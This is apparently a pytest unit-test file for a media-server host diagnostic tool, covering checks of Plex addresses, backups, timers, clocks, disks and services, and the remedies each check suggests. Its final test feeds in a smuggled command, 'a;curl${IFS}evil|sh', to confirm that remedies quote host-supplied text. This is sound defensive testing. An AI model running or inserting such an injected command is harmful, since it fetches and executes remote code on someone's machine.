"""Checks of a host as pure decisions; tests/host/test_diagnose.py brings each fault about on a real one."""

import gzip
import json
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kometa_host.reports.diagnosis.check import Check, Host, State, has_problem
from kometa_host.reports.diagnosis.checks import CHECKS, as_json, diagnose, table
from kometa_host.reports.status import Look
from kometa_host.settings.variables import Settings
from kometa_host.state import run_history
from kometa_host.state.kometa_log import Outcome
from kometa_host.state.observed import Observed
from kometa_host.state.run_history import RecordedRun
from tests.unit import told

NOW = datetime(2026, 11, 22, 17, 0, tzinfo=UTC)
RECIPIENT = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"
SETTINGS = Settings.from_data({}, "a host")


def host(found: dict[str, str] | None = None, settings: Settings = SETTINGS, **more: str) -> Host:
    """A host of which this much was read."""

    return Host(settings, Look(told.host(**(found or {}), **more)), NOW)


def check(name: str, of: Host) -> Check:
    """One check of a host."""
    return next(found for found in diagnose(of) if found.name == name)


def test_every_problem_of_a_bare_host_says_why_and_what_mends_it() -> None:
    problems = [found for found in diagnose(host()) if found.state in (State.PROBLEM, State.WARNING)]
    assert problems
    assert all(found.cause and found.mend for found in problems)


def test_keep_id_is_named_with_its_file_and_line() -> None:
    found = check("s6-overlay", host(quadlet_lines="/q/kometa.container:7:UserNS=keep-id"))
    assert found.state is State.PROBLEM
    assert "UserNS=keep-id in /q/kometa.container, line 7" in found.found


def test_a_quadlets_own_reference_to_its_network_is_no_fault() -> None:
    assert check("network name", host(quadlet_lines="/q/kometa.container:4:Network=mms.network")).state is State.OK


def test_a_network_argument_with_the_suffix_is_one() -> None:
    line = "/q/kometa.container:4:PodmanArgs=--network=mms.network"
    assert "--network mms " in check("network name", host(quadlet_lines=line)).mend


def test_a_traefik_address_is_a_problem_and_its_credentials_are_not_shown() -> None:
    found = check("plex url", host(config_text="plex:\n  url: https://me:pa55@plex.example.org\n"))
    assert found.state is State.PROBLEM
    assert "pa55" not in str(found)


def test_the_containers_name_and_placeholders_are_good_addresses() -> None:
    for url in ("http://plex:32400", "http://plex:32400/", "ENV", "<<plexurl>>"):
        assert check("plex url", host(config_text=f"plex:\n  url: {url}\n")).state is State.OK


def test_the_hosts_own_address_is_a_problem_whose_remedy_is_the_name_that_containers_have_for_it() -> None:
    itself = {"own_addresses": "10.0.0.7", "hostname": "tower", "podman_version": "podman version 5.4.2"}
    for url in ("http://10.0.0.7:32400", "http://tower:32400"):
        for settings in (SETTINGS, Settings.from_data({"kometa_plex_url": url}, "a host")):
            found = check("plex url", host(itself, settings, config_text=f"plex:\n  url: {url}\n"))
            assert found.state is State.PROBLEM
            assert "http://host.containers.internal:32400" in found.mend


def test_why_a_service_fails_is_what_anybody_could_read_of_it() -> None:
    failed = {"bus": "yes", "units": "Id=kometa.service\nLoadState=loaded\nActiveState=failed\nResult=exit-code"}

    def why(journal: str = "", log: str = "", of_root: str = "") -> str:
        logs = {"recent_log": gzip.compress(log.encode()), "journal_of_root": gzip.compress(of_root.encode())}
        return check("service", Host(SETTINGS, Look(told.host(**failed, journal=journal, **logs)), NOW)).cause

    assert why("yes", "Error: no such secret\nbye") == "Error: no such secret"
    assert why("", "", "Error: statfs /data: no such file") == "Error: statfs /data: no such file"
    assert why("yes", "", "Error: of another day") == "its log says no more"
    assert why() == "mms cannot read its journal; root can: journalctl _SYSTEMD_USER_UNIT=kometa.service"


def test_a_journal_that_the_account_cannot_read_is_named_with_what_that_costs() -> None:
    assert check("journal", host({"bus": "yes"}, journal="yes")).state is State.OK
    found = check("journal", host({"bus": "yes"}))
    assert found.state is State.WARNING
    assert "messages of backups and updates cannot be shown" in found.cause
    assert check("journal", host()).state is State.UNKNOWN


def test_a_timer_that_is_active_and_has_no_time_to_wait_for_will_not_fire() -> None:
    watch = "Id=kometa-watch.timer\nLoadState=loaded\nActiveState=active\nSubState=running\nNextElapseUSecRealtime=\n\n"
    timer = f"{watch}Id=mms-autodeploy-interactive.timer\nLoadState=loaded\nActiveState=active\nSubState="
    dead = check("timers", host(status_units=f"{timer}elapsed\nNextElapseUSecRealtime="))
    assert dead.state is State.PROBLEM
    assert "systemctl --user restart mms-autodeploy-interactive.timer" in dead.mend
    assert check("timers", host(status_units=f"{timer}running\nNextElapseUSecRealtime=")).state is State.OK
    due = "waiting\nNextElapseUSecRealtime=Sun 2026-11-22 16:44:23 UTC"
    assert check("timers", host(status_units=f"{timer}{due}")).state is State.OK


def test_a_plex_elsewhere_is_not_started_on_this_host() -> None:
    def remedy(url: str) -> str:
        return check("plex", host(plex=json.dumps({"url": url, "identity": "refused", "has_token": True}))).mend

    assert remedy("http://10.1.1.9:32400").startswith("start Plex on 10.1.1.9;")
    assert remedy("http://plex:32400").startswith("systemctl --user start plex")


def test_an_archive_of_the_future_does_not_hide_that_backups_are_missing() -> None:
    known = Settings.from_data({"kometa_backup_recipients": [RECIPIENT]}, "a host")
    future, old = "kometa-2031-01-01T000000Z.tar.zst.age\t9\n", "kometa-2025-01-01T000000Z.tar.zst.age\t9\n"
    assert check("last backup", host(settings=known, backups=future)).state is State.PROBLEM
    assert "2025-01-01" in check("last backup", host(settings=known, backups=future + old)).found


def test_plex_is_not_judged_where_it_could_not_be_asked() -> None:
    assert check("plex", host()).state is State.UNKNOWN
    assert check("plex", host(plex="no json")).state is State.UNKNOWN
    assert check("plex token", host(plex=json.dumps({"url": "u", "identity": "refused"}))).state is State.UNKNOWN


def test_a_library_that_plex_does_not_have_is_a_problem_with_the_name_that_is_meant() -> None:
    config = "libraries:\n  movies: {}\n  TV Shows: {}\n"
    asked = json.dumps(
        {
            "url": "u",
            "has_token": True,
            "identity": 200,
            "sections": 200,
            "libraries": {"Movies": "movie", "TV Shows": "show"},
        }
    )
    found = check("libraries", host(plex=asked, config_text=config))
    assert (found.state, found.found) == (State.PROBLEM, "Plex has no movies")
    assert "movies: did you mean Movies?" in found.mend
    assert check("libraries", host(plex=asked, config_text=config.replace("movies", "Movies"))).state is State.OK
    misplaced = config.replace("movies: {}", "Movies: {overlay_files: [{default: status}]}")
    assert check("libraries", host(plex=asked, config_text=misplaced)).found == "the default status is not for Movies"
    assert check("libraries", host(plex=asked)).state is State.UNKNOWN
    assert check("libraries", host(config_text=config)).state is State.UNKNOWN


def test_a_full_disk_counts_only_where_little_is_left() -> None:
    few, many = "/dev/sda1 9 9 1000 96% /data", "/dev/sda1 9 9 999999999 96% /data"
    assert check("disk", host(disks=few)).state is State.PROBLEM
    assert check("disk", host(disks=many)).state is State.OK


def test_an_image_is_new_only_if_the_registry_answers_otherwise() -> None:
    images = {"images": json.dumps([{"Id": "ab" * 32}])}
    local = f"{'ab' * 32} sha256:{'cd' * 32}"
    assert check("image", host(images, image_digests=local)).state is State.UNKNOWN
    assert check("image", host(images, image_digests=local, registry=f"sha256:{'ab' * 32}")).state is State.OK
    assert check("image", host(images, image_digests=local, registry=f"sha256:{'ef' * 32}")).state is State.WARNING


def test_a_clock_that_is_an_hour_off_is_a_problem() -> None:
    assert check("clock", host(now=str(int(NOW.timestamp()) - 3600))).state is State.PROBLEM
    assert check("clock", host(now=str(int(NOW.timestamp())))).state is State.OK


@pytest.mark.parametrize(
    ("told", "state"),
    [
        ("Container=none\nNTP=no\nNTPSynchronized=no", State.WARNING),
        ("Container=lxc\nNTP=no\nNTPSynchronized=no", State.OK),
        ("Container=none\nNTP=yes\nNTPSynchronized=yes", State.OK),
        ("", State.OK),
    ],
)
def test_a_clock_that_nobody_sets_is_a_warning_unless_the_host_is_a_container(told: str, state: State) -> None:
    assert check("clock", host(now=str(int(NOW.timestamp())), clock=told)).state is state


def test_an_archive_that_the_host_has_not_written_does_not_hide_that_backups_are_missing() -> None:
    ours, forged = "kometa-2026-01-01T030000Z.tar.zst.age", "kometa-2026-11-22T030000Z.tar.zst.age"
    look = Look(Observed({
        "backups": f"kometa-2025-01-01.tar.zst\t3\n{ours}\t5\n{forged}\t5".encode(),
        "written": f"{'a' * 64} 5 {ours}".encode(),
    }))  # fmt: skip
    assert list(look.archives()) == ["kometa-2025-01-01.tar.zst", ours]


def test_no_backups_are_a_warning_and_old_ones_a_problem() -> None:
    assert check("last backup", host()).state is State.WARNING
    recipient = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"
    enabled = Settings.from_data({"kometa_backup_recipients": [recipient]}, "a host")
    daily = "".join(f"    Next elapse: Sun 2026-11-{day} 08:00:00 UTC\n" for day in ("23", "24", "25"))
    old, new = (f"kometa-2026-11-{day}T080000Z.tar.zst.age\t5" for day in ("15", "22"))
    assert check("last backup", host({"calendar.backup": daily}, enabled, backups=old)).state is State.PROBLEM
    assert check("last backup", host({"calendar.backup": daily}, enabled, backups=f"{old}\n{new}")).state is State.OK
    failed = "Id=kometa-backup.service\nResult=exit-code"
    found = check("last backup", host(settings=enabled, backups=new, status_units=failed))
    assert (found.state, found.cause) == (State.PROBLEM, "see its log")
    words = "no space left on device\x1b[2J\n"
    found = check("last backup", host(settings=enabled, backups=new, status_units=failed, backup_words=words))
    assert found.cause == "no space left on device\\x1b[2J"


REPOSITORY = Settings.from_data({"kometa_backup_repository": "/srv/restic/kometa"}, "a host")


def test_a_snapshot_is_a_backup_and_a_damaged_repository_a_problem() -> None:
    daily = {"calendar.backup": "".join(f"    Next elapse: Sun 2026-11-{day} 08:00:00 UTC\n" for day in ("23", "24"))}
    assert check("last backup", host(daily, REPOSITORY)).state is State.WARNING
    new, old = (f"2026-11-{day}T080000Z 1a2b3c4d" for day in ("22", "15"))
    found = check("last backup", host(daily, REPOSITORY, snapshot=new))
    assert found.state is State.OK
    assert "restic:1a2b3c4d" in found.found
    assert check("last backup", host(daily, REPOSITORY, snapshot=old)).state is State.PROBLEM
    damaged = host(daily, REPOSITORY, snapshot=new, repository_damaged="yes")
    assert check("last backup", damaged).state is State.PROBLEM


def test_a_host_of_which_no_backup_was_restored_for_a_quarter_is_warned_of() -> None:
    recent, long_ago = (f"{day}T100000Z drilled restic:1a2b3c4d\n" for day in ("2026-11-01", "2026-06-01"))
    assert check("restore drill", host(settings=REPOSITORY)).state is State.WARNING
    assert check("restore drill", host(settings=REPOSITORY, proofs=long_ago)).state is State.WARNING
    assert check("restore drill", host(settings=REPOSITORY, proofs=long_ago + recent)).state is State.OK
    assert check("restore drill", host()).state is State.OK


def test_drop_ins_of_ours_are_shown() -> None:
    home = "/home/mms/.config"
    paths = f"{home}/containers/systemd/kometa.container.d/my.conf\n{home}/systemd/user/plex.service.d/other.conf\n"
    assert check("drop-ins", host(drop_ins=paths)).found.endswith(": kometa.container.d/my.conf")
    assert check("drop-ins", host()).found == "none"


def test_the_table_and_the_json_hold_every_check() -> None:
    found = diagnose(host())
    assert has_problem(found)
    text = table("tower", found)
    assert all(name in text for name in CHECKS)
    problems = sum(check.state is State.PROBLEM for check in found)
    assert problems > 1
    assert f"{problems} problems" in text.splitlines()[0]
    assert [entry["name"] for entry in json.loads(as_json("tower", found))["checks"]] == list(CHECKS)


TOLD = (
    "plex", "disks", "inodes", "now", "clock", "registry", "config_text", "backups", "quadlet_lines", "status_units",
    "failed_units", "network_names", "drop_ins", "waiting_messages",
)  # fmt: skip


@given(st.dictionaries(st.sampled_from(TOLD), st.text()))
def test_whatever_a_host_tells_is_judged_without_an_error(more: dict[str, str]) -> None:
    found = told.host(**{name: text.encode("utf-8", "replace") for name, text in more.items()})
    assert len(diagnose(Host(SETTINGS, Look(found), NOW))) == len(CHECKS)


def run_log(*rows: str) -> dict[str, bytes]:
    """The lines of a log, as status.sh tells them."""
    stamp = "[2026-11-22 06:00:00,000] [kometa.py:"
    return {"last-run": gzip.compress("\n".join(f"{stamp}{n}] {row} |" for n, row in enumerate(rows)).encode())}


def test_the_last_runs_first_error_is_explained() -> None:
    log = run_log(
        "[INFO] | Starting 06:00 Run", "[ERROR] | Plex Error: Plex token is invalid",
        "[CRITICAL] | Config Error: No libraries were found in config", "[INFO] | Finished 06:00 Run",
    )  # fmt: skip
    found = check("last run", Host(SETTINGS, Look(Observed(log)), NOW))
    assert found.state is State.PROBLEM
    assert "Plex refused the token" in found.cause
    assert "plextoken" in found.mend


def test_a_service_that_rests_for_a_single_run_was_not_stopped_by_somebody() -> None:
    units = "Id=kometa.service\nLoadState=loaded\nActiveState=inactive\nSubState=dead"
    single = json.dumps([{"Names": ["test-kometa"], "State": "running", "Image": "i", "ImageID": "1", "StartedAt": 1}])
    found = check("service", host({"bus": "yes", "units": units, "containers": single}))
    assert found.state is State.WARNING
    assert "run_once" in found.cause
    assert "somebody" in check("service", host({"bus": "yes", "units": units})).cause


@pytest.mark.parametrize(("restarts", "state"), [("0", State.WARNING), ("3", State.PROBLEM)])
def test_a_service_that_is_starting_again_after_a_start_in_vain_is_a_problem(restarts: str, state: State) -> None:
    units = f"Id=kometa.service\nLoadState=loaded\nActiveState=activating\nSubState=start\nNRestarts={restarts}"
    assert check("service", host({"bus": "yes", "units": units})).state is state


def test_where_another_stack_has_the_usual_name_its_timer_is_not_taken_for_ours() -> None:
    theirs = "/home/mms/.config/systemd/user/mms-autodeploy-interactive.timer"
    units = (
        "Id=mms-autodeploy-interactive.timer\nLoadState=loaded\nActiveState=inactive\n\n"
        "Id=mms-autodeploy-interactive-kometa.timer\nLoadState=loaded\nActiveState=active\n"
        "NextElapseUSecRealtime=Mon 2026-11-23 07:00:00 UTC\n\n"
        "Id=kometa-watch.timer\nLoadState=loaded\nActiveState=active\n"
        "NextElapseUSecRealtime=Mon 2026-11-22 17:03:20 UTC"
    )
    found = check("timers", host({f"foreign.{theirs}": "[Timer]"}, status_units=units))
    assert (found.state, found.found) == (State.OK, "mms-autodeploy-interactive-kometa.timer, kometa-watch.timer")


def history(*runs: RecordedRun) -> bytes:
    """The end of the host's history of runs, as status.sh tells it."""
    return gzip.compress("".join(map(run_history.line, runs)).encode())


def looked(found: dict[str, str], settings: Settings = SETTINGS, **more: bytes) -> Host:
    """A host of which this much was read, bytes as they were told."""
    return Host(settings, Look(told.host(**found, **more)), NOW)


def test_a_run_of_more_than_the_limit_hangs_and_one_within_it_does_not() -> None:
    begin = int((NOW - timedelta(hours=25)).timestamp())
    found = check("run time", looked({"run_in_progress": str(begin)}))
    assert found.state is State.PROBLEM
    assert "kometa_run_limit" in found.cause
    longer = Settings.from_data({"kometa_run_limit": 48}, "a host")
    assert check("run time", looked({"run_in_progress": str(begin)}, longer)).state is State.OK
    assert check("run time", looked({})).state is State.OK


def test_a_missed_run_is_a_problem_until_another_one_came() -> None:
    lost = RecordedRun("06:00", NOW - timedelta(hours=6), None, Outcome.MISSED, first_errors=("the host was off",))
    later = RecordedRun("06:00", NOW, NOW, Outcome.GOOD)
    found = check("missed runs", looked({}, run_history=history(lost)))
    assert (found.state, found.cause) == (State.PROBLEM, "the host was off")
    assert check("missed runs", looked({}, run_history=history(lost, later))).state is State.OK
    assert check("missed runs", looked({})).state is State.OK


def test_messages_that_could_not_be_sent_are_a_problem() -> None:
    telling = Settings.from_data({"kometa_notify": ["ntfy://topic"]}, "a host")
    fresh = json.dumps({"title": "nas: x", "since": "now", "error": "", "given_up": False})
    late = json.dumps({"title": "nas: the run failed", "since": "now", "error": "no answer", "given_up": False})
    found = check("messages", looked({}, telling, waiting_messages=f"{fresh}\n{late}\n{{".encode()))
    assert (found.state, found.cause) == (State.PROBLEM, "no answer")
    assert "nas: the run failed" in found.found
    assert "operations.kometa.notify" in found.mend
    assert check("messages", looked({}, telling, waiting_messages=fresh.encode())).state is State.OK


def test_what_a_host_says_is_no_command_in_a_remedy() -> None:
    evil = "a;curl${IFS}evil|sh"
    for name, values in (
        ("failed units", {"failed-units": f"{evil} loaded failed"}),
        ("disk", {"disks": f"/dev/sda 9 9 9 99% /{evil}"}),
        ("plex", {"plex": json.dumps({"url": f"http://{evil}.x", "identity": "refused"})}),
    ):
        told_bytes = {key: value.encode() for key, value in values.items()}
        found = check(name, Host(Settings(), Look(Observed(told_bytes)), NOW))
        assert f"'{evil}" in found.mend or f"'/{evil}" in found.mend or f"'http://{evil}" in found.mend
